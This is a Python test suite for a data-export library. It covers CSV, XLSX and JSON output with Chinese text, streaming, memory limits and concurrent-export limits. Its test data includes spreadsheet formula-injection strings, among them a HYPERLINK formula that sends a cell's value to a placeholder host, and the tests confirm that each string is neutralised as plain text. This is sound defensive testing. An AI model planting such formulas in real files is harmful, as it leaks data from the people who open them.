"""Bulk exports (`ladder.kit.exports`): each format read back by its own reader, text that a
spreadsheet could evaluate written as text, Chinese intact, bodies streamed while the rows
arrive in memory that does not grow with them, and the export session of a real database
open until the body's last byte."""

from __future__ import annotations

import asyncio
import codecs
import csv
import gc
import io
import json
import tracemalloc
import uuid
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime

import pytest
from fastapi import APIRouter, Query
from openpyxl import load_workbook
from sqlalchemy import text

from ladder.kit import exports
from ladder.kit.app import ServiceSpec, create_service_app
from ladder.kit.errors import declare
from ladder.kit.exports import (
    Column,
    CsvEncoding,
    ExportFormat,
    ExportSessionDep,
    content_disposition,
    csv_chunks,
    export_response,
    json_chunks,
    xlsx_chunks,
)
from ladder.kit.settings import KitSettings
from ladder.kit.testing import TestIssuer, running, settings_for_tests

COLUMNS = [
    Column("name", "企业名称", "enterprise name", width=30),
    Column("count", "数量", "count"),
    Column("at", "提交时间", "submitted at"),
    Column("day", "日期", "day"),
    Column("id", "申报编号", "declaration id"),
    Column("note", "备注", "note"),
]
FORMULAS = ["=1+1", "+x", "-x", "@x", '=HYPERLINK("http://x/?"&A1,"点击查看")', "\tx", "\rx"]
AT = datetime(2026, 3, 1, 2, 30, tzinfo=UTC)  # 10:30 in Beijing
ROWS = [
    *({"name": f, "count": -i, "note": None} for i, f in enumerate(FORMULAS)),
    {"name": "福州示范智能装备有限公司", "count": 7, "at": AT, "day": date(2026, 3, 1),
     "id": uuid.UUID(int=1), "note": "𠀀䶮 两端有空格 "},
    {"name": "a=b", "count": 0, "note": "第一行\n第二行"},
]  # fmt: skip


async def rows_of(rows) -> AsyncIterator[dict]:
    for row in rows:
        yield row


async def body(chunks: AsyncIterator[bytes]) -> bytes:
    return b"".join([c async for c in chunks])


# ---- CSV -----------------------------------------------------------------------------------


async def test_csv_reads_back_with_its_bom_headers_and_neutralised_text():
    data = await body(csv_chunks(COLUMNS, rows_of(ROWS)))
    assert data.startswith(codecs.BOM_UTF8)
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["企业名称", "数量", "提交时间", "日期", "申报编号", "备注"]
    assert [r[0] for r in read[1:8]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in read[1:8]] == [str(-i) for i in range(7)]  # numbers: no apostrophe
    chinese = read[8]
    assert chinese == [
        "福州示范智能装备有限公司",
        "7",
        "2026-03-01T10:30:00+08:00",
        "2026-03-01",
        "00000000-0000-0000-0000-000000000001",
        "𠀀䶮 两端有空格 ",
    ]
    assert read[9] == ["a=b", "0", "", "", "", "第一行\n第二行"]
    assert len(read) == 10


async def test_csv_in_gb18030_loses_nothing_and_has_no_bom():
    data = await body(csv_chunks(COLUMNS, rows_of(ROWS), encoding=CsvEncoding.gb18030))
    assert not data.startswith(codecs.BOM_UTF8)
    utf8 = await body(csv_chunks(COLUMNS, rows_of(ROWS)))
    assert data.decode("gb18030") == utf8.decode("utf-8-sig")
    assert "企业名称".encode("gb18030") in data


# ---- XLSX ----------------------------------------------------------------------------------


def _sheets(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets


async def test_xlsx_text_is_text_never_a_formula_and_keeps_its_value():
    data = await body(xlsx_chunks(COLUMNS, rows_of(ROWS), sheet_title="申报案件"))
    (sheet,) = _sheets(data)
    assert sheet.title == "申报案件"
    assert [c.value for c in sheet[1]] == [
        "企业名称",
        "数量",
        "提交时间",
        "日期",
        "申报编号",
        "备注",
    ]
    assert sheet.freeze_panes == "A2"
    for i, formula in enumerate(FORMULAS, start=2):
        cell = sheet.cell(i, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
        assert (sheet.cell(i, 2).value, sheet.cell(i, 2).data_type) == (-(i - 2), "n")
    row = [c.value for c in sheet[9]]
    assert row == [
        "福州示范智能装备有限公司",
        7,
        datetime(2026, 3, 1, 10, 30),  # Beijing time, as Excel has no zones
        datetime(2026, 3, 1),
        "00000000-0000-0000-0000-000000000001",
        "𠀀䶮 两端有空格 ",
    ]
    assert sheet.cell(9, 3).number_format == "yyyy-mm-dd hh:mm:ss"
    assert sheet.cell(9, 1).quotePrefix is False
    assert [c.value for c in sheet[10]] == ["a=b", 0, None, None, None, "第一行\n第二行"]
    assert sheet.max_row == 10
    assert sheet.column_dimensions["A"].width == 30
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "&#13;x" in xml


async def test_xlsx_characters_xml_refuses_are_replaced_not_fatal():
    data = await body(xlsx_chunks(COLUMNS, rows_of([{"name": "坏\x01字\x1f符"}])))
    assert _sheets(data)[0].cell(2, 1).value == "坏\ufffd字\ufffd符"


async def test_xlsx_rows_beyond_a_sheet_go_on_the_next_sheet_under_the_header_again():
    rows = [{"name": f"企业{i}", "count": i} for i in range(7)]
    data = await body(xlsx_chunks(COLUMNS, rows_of(rows), rows_per_sheet=3))
    sheets = _sheets(data)
    assert [s.title for s in sheets] == ["导出", "导出 (2)", "导出 (3)"]
    assert [[r[1] for r in s.iter_rows(values_only=True)] for s in sheets] == [
        ["数量", 0, 1, 2],
        ["数量", 3, 4, 5],
        ["数量", 6],
    ]


async def test_xlsx_is_a_streamed_zip_whose_parts_name_their_content_types():
    data = await body(xlsx_chunks(COLUMNS, rows_of(ROWS)))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        names = package.namelist()
        types = package.read("[Content_Types].xml").decode()
        sheet_info = package.getinfo("xl/worksheets/sheet1.xml")
    assert {"xl/workbook.xml", "xl/styles.xml", "_rels/.rels"} <= set(names)
    assert 'PartName="/xl/worksheets/sheet1.xml"' in types
    assert sheet_info.flag_bits & 0x08  # sizes in a data descriptor: written as a stream


# ---- JSON ----------------------------------------------------------------------------------


async def test_json_is_one_array_of_typed_rows_one_per_line():
    data = await body(json_chunks(COLUMNS, rows_of(ROWS)))
    read = json.loads(data)
    assert [r["name"] for r in read[:7]] == FORMULAS  # data, not a sheet: exact
    assert read[7] == {
        "name": "福州示范智能装备有限公司",
        "count": 7,
        "at": "2026-03-01T10:30:00+08:00",
        "day": "2026-03-01",
        "id": "00000000-0000-0000-0000-000000000001",
        "note": "𠀀䶮 两端有空格 ",
    }
    assert read[0]["at"] is None and read[0]["count"] == 0
    lines = data.decode().splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == len(ROWS) + 2
    assert all(json.loads(line.rstrip(",")) for line in lines[1:-1])


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_no_rows_is_a_file_with_its_header_only(fmt):
    data = await body(exports.chunks(fmt, COLUMNS, rows_of([])))
    if fmt is ExportFormat.json:
        assert json.loads(data) == []
    elif fmt is ExportFormat.csv:
        assert data.decode("utf-8-sig") == "企业名称,数量,提交时间,日期,申报编号,备注\r\n"
    else:
        assert _sheets(data)[0].max_row == 1


# ---- streaming and memory ------------------------------------------------------------------


def _many(n: int, pulled: list[int] | None = None):
    async def rows():
        for i in range(n):
            if pulled is not None:
                pulled[0] = i + 1
            note = "=SUM(A1:A9)" if i % 7 == 0 else "备注"
            yield {"name": f"福州示范智能装备有限公司{i}", "count": i, "at": AT,
                   "id": uuid.UUID(int=i), "note": note}  # fmt: skip

    return rows()


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_the_first_bytes_leave_before_the_last_row_is_read(fmt):
    pulled = [0]
    stream = exports.chunks(fmt, COLUMNS, _many(20_000, pulled))
    first = await anext(stream)
    assert first and pulled[0] < 5_000
    sizes = [len(first)] + [len(c) async for c in stream]
    assert pulled[0] == 20_000
    assert max(sizes) < 4 * exports.CHUNK_BYTES


async def _peak_bytes(fmt: ExportFormat, n: int) -> int:
    gc.collect()
    tracemalloc.start()
    try:
        async for _ in exports.chunks(fmt, COLUMNS, _many(n)):
            pass
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_memory_does_not_grow_with_the_rows(fmt, report):
    small, large = await _peak_bytes(fmt, 2_000), await _peak_bytes(fmt, 20_000)
    report(f"kit exports {fmt.value}: traced peak {small / 1024:.0f} KiB for 2,000 rows, "
           f"{large / 1024:.0f} KiB for 20,000")  # fmt: skip
    assert large < small * 1.5 + 256 * 1024, (small, large)


async def test_a_stream_stopped_half_way_closes_cleanly():
    stream = xlsx_chunks(COLUMNS, _many(50_000))
    await anext(stream)
    await stream.aclose()
    gc.collect()  # an unclosed zip would complain here (warnings are errors in this suite)


# ---- the answer ----------------------------------------------------------------------------


def test_content_disposition_names_the_file_in_chinese_with_an_ascii_fallback():
    header = content_disposition("2026年卓越级名单.xlsx", "2026 excellence/list.xlsx")
    assert header == (
        'attachment; filename="2026_excellence_list.xlsx"; '
        "filename*=UTF-8''2026%E5%B9%B4%E5%8D%93%E8%B6%8A%E7%BA%A7%E5%90%8D%E5%8D%95.xlsx"
    )


@pytest.fixture
async def exporting(database_url: str):
    """An app whose route streams `generate_series` from the real database through the
    export session; `gate`, when set, holds every row source until it opens."""
    router = APIRouter()
    state: dict = {"gate": None}

    @router.get("/numbers", responses={**exports.export_responses("numbers"), **declare()})
    async def numbers(
        session: ExportSessionDep,
        fmt: ExportFormat = Query(alias="format"),
        n: int = Query(ge=0, le=1_000_000),
    ):
        async def rows():
            if state["gate"] is not None:
                await state["gate"].wait()
            result = await session.stream(
                text("SELECT g AS count, '=' || g AS name, current_setting('transaction_read_only')"
                     " AS note FROM generate_series(1, :n) g").bindparams(n=n),
                execution_options={"yield_per": 100},
            )  # fmt: skip
            async for part in result.mappings().partitions():
                for row in part:
                    yield row

        return export_response(fmt, COLUMNS, rows(), name="数字", ascii_name="numbers")

    settings = settings_for_tests(KitSettings, database_url, service_name="kit-test")
    spec = ServiceSpec(
        name="kit-test", schema="public", title="t", description="", routers=[router]
    )
    app = create_service_app(settings, spec)
    async with running(app, TestIssuer()) as client:
        yield client, state


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_a_route_streams_rows_read_after_the_endpoint_returned(exporting, fmt):
    client, _ = exporting
    resp = await client.get("/numbers", params={"format": fmt.value, "n": 1_500})
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith(exports.media_type(fmt))
    assert resp.headers["content-disposition"].endswith(f"%E6%95%B0%E5%AD%97.{fmt.value}")
    assert resp.headers["cache-control"] == "private, no-store"
    if fmt is ExportFormat.json:
        read = json.loads(resp.content)
        assert [r["count"] for r in read] == list(range(1, 1_501))
        assert {r["note"] for r in read} == {"on"}  # a read-only transaction
    elif fmt is ExportFormat.csv:
        lines = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
        assert len(lines) == 1_501 and lines[1][:2] == ["'=1", "1"]
    else:
        sheet = _sheets(resp.content)[0]
        assert sheet.max_row == 1_501
        assert (sheet.cell(2, 1).value, sheet.cell(2, 1).data_type) == ("=1", "s")


async def test_exports_beyond_the_limit_are_refused_until_one_ends(exporting):
    client, state = exporting
    state["gate"] = asyncio.Event()
    held = [
        asyncio.create_task(client.get("/numbers", params={"format": "csv", "n": 10}))
        for _ in range(exports.MAX_CONCURRENT_EXPORTS)
    ]
    await asyncio.sleep(0.2)
    busy = await client.get("/numbers", params={"format": "csv", "n": 10})
    assert busy.status_code == 503
    assert busy.json()["error"]["code"] == "exports_busy"
    assert busy.headers["Retry-After"] == "10"
    state["gate"].set()
    assert [r.status_code for r in await asyncio.gather(*held)] == [200] * len(held)
    state["gate"] = None
    again = await client.get("/numbers", params={"format": "json", "n": 3})
    assert again.status_code == 200 and len(again.json()) == 3


async def test_an_export_beyond_the_limit_waits_briefly_for_a_slot(exporting):
    """A slot given back within `QUEUE_SECONDS` serves the waiting export: a client exporting
    one file after another is not told "busy" while the last one's transaction closes."""
    client, state = exporting
    state["gate"] = asyncio.Event()
    held = [
        asyncio.create_task(client.get("/numbers", params={"format": "csv", "n": 10}))
        for _ in range(exports.MAX_CONCURRENT_EXPORTS)
    ]
    await asyncio.sleep(0.2)
    waiting = asyncio.create_task(client.get("/numbers", params={"format": "json", "n": 2}))
    await asyncio.sleep(0.3)
    assert not waiting.done()
    state["gate"].set()
    assert [r.status_code for r in await asyncio.gather(*held)] == [200] * len(held)
    state["gate"] = None
    resp = await waiting
    assert resp.status_code == 200 and len(resp.json()) == 2
